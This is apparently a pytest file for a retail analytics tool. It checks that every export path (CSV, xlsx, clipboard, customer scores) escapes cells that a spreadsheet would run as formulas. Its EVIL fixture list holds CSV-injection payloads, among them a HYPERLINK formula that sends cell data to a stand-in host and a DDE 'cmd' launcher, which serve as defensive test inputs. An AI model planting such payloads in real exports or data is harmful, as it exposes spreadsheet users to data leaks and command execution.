"""Exports are safe to open: text that a spreadsheet would run as a formula is written as text,
in CSV (leading ') and in .xlsx (a text cell, never a formula), by every exporter."""
from __future__ import annotations

import csv
import zipfile

import pandas as pd
import pytest

from shopinsight.core.export import export_lines, formula_risk, safe_cell, table_text, write_table
from shopinsight.core.store import Shop

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "=1+1", "\t=1+1"]
HARMLESS = ["-5", "+3.5", "-1,234.50", "12", "SKU-1", "85123A", "2024-01-02", "-0.25", "1e6", "C536379",
            "a=b", "茶壶"]


def test_formula_risk_spots_formulas_but_not_numbers():
    assert all(formula_risk(v) for v in EVIL)
    assert not any(formula_risk(v) for v in HARMLESS)
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-5") == "-5" and safe_cell(3) == 3


def _frame():
    return pd.DataFrame({"product_id": EVIL + HARMLESS[:2], "units": range(len(EVIL) + 2),
                         "price": [1.5] * (len(EVIL) + 2)})


def test_csv_export_escapes_formula_cells(tmp_path):
    out = write_table(_frame(), tmp_path / "t.csv", "t")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [r[0] for r in rows[1:]]
    assert cells[:len(EVIL)] == ["'" + v for v in EVIL]
    assert cells[len(EVIL):] == HARMLESS[:2]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(EVIL) + 2)]     # numbers stay numbers


def test_xlsx_export_writes_formula_looking_text_as_text(tmp_path):
    from openpyxl import load_workbook

    out = write_table(_frame(), tmp_path / "t.xlsx", "t")
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<x:f>" not in sheet_xml        # no formula anywhere
    ws = load_workbook(out).active
    col = [ws.cell(row=i + 2, column=1) for i in range(len(EVIL))]
    assert [c.value for c in col] == EVIL
    assert all(c.data_type == "s" for c in col)
    assert ws.cell(row=2, column=2).value == 0 and ws.cell(row=2, column=3).value == 1.5


def test_header_names_are_escaped_too(tmp_path):
    out = write_table(pd.DataFrame({"=evil()": ["x"]}), tmp_path / "h.csv")
    assert out.read_text(encoding="utf-8-sig").splitlines()[0] == "'=evil()"


def test_lines_export_escapes_product_codes_and_names(lines_shop, tmp_path):
    rows = [dict(order_id="1", ordered_at="2024-01-01 10:00:00", product_id=EVIL[0], product_name="=2*3",
                 quantity=-2, unit_price=2.0, country="@home"),
            dict(order_id="2", ordered_at="2024-01-01 10:00:00", product_id="-5", product_name="Tea pot",
                 quantity=1, unit_price=2.0)]
    with Shop(lines_shop(rows)) as shop:
        out = tmp_path / "lines.csv"
        assert export_lines(shop, out) == 2
    df = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
    assert df["product_id"].tolist() == ["'" + EVIL[0], "-5"]
    assert df["product_name"].tolist() == ["'=2*3", "Tea pot"]
    assert df["country"].tolist()[0] == "'@home" and df["quantity"].tolist()[0] == "-2"  # a number: not escaped, no float noise


def test_clipboard_text_is_escaped():
    text = table_text(pd.DataFrame({"a": ["=1+1", "-3"]}))
    assert text.splitlines() == ["a", "'=1+1", "-3"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_customer_export_is_safe(tmp_path, suffix):
    from shopinsight.core.customers.export import export_scores

    out = export_scores(pd.DataFrame({"customer_id": ["=HYPERLINK(\"x\")"], "segment": ["@a"],
                                      "purchase_probability": [0.5]}), tmp_path / f"c{suffix}")
    if suffix == ".csv":
        assert "'=HYPERLINK" in out.read_text(encoding="utf-8-sig")
    else:
        from openpyxl import load_workbook
        c = load_workbook(out).active.cell(row=2, column=1)
        assert c.value == '=HYPERLINK("x")' and c.data_type == "s"


def test_csv_exports_carry_no_float_noise(tmp_path, lines_shop):
    """Money computed in floating point (14305.659999999998) is written as 14305.66, in tables and in
    the lines export; every CSV has the same encoding (UTF-8 with BOM)."""
    from shopinsight.core.export import export_lines, write_table
    from shopinsight.core.store import Shop

    noisy = 0.1 + 0.2                                       # 0.30000000000000004
    f = write_table(pd.DataFrame({"net_sales": [14305.659999999998, noisy], "p": [0.123456789, 1 / 3]}),
                    tmp_path / "t.csv")
    raw = f.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "14305.66,0.123456789" in text and "0.3," in text and "999999" not in text
    assert "0.3,0.333333333333" in text                     # other floats keep 12 significant digits
    shop = lines_shop([{"ordered_at": "2024-01-02 10:00:00", "order_id": "1", "product_id": "A",
                        "quantity": 3, "unit_price": 0.1, "amount": 3 * 0.1}])
    with Shop(shop) as s:
        export_lines(s, tmp_path / "lines.csv")
    lines = (tmp_path / "lines.csv").read_bytes()
    assert lines.startswith(b"\xef\xbb\xbf") and b"0.30000000000000004" not in lines and b",0.3," in lines
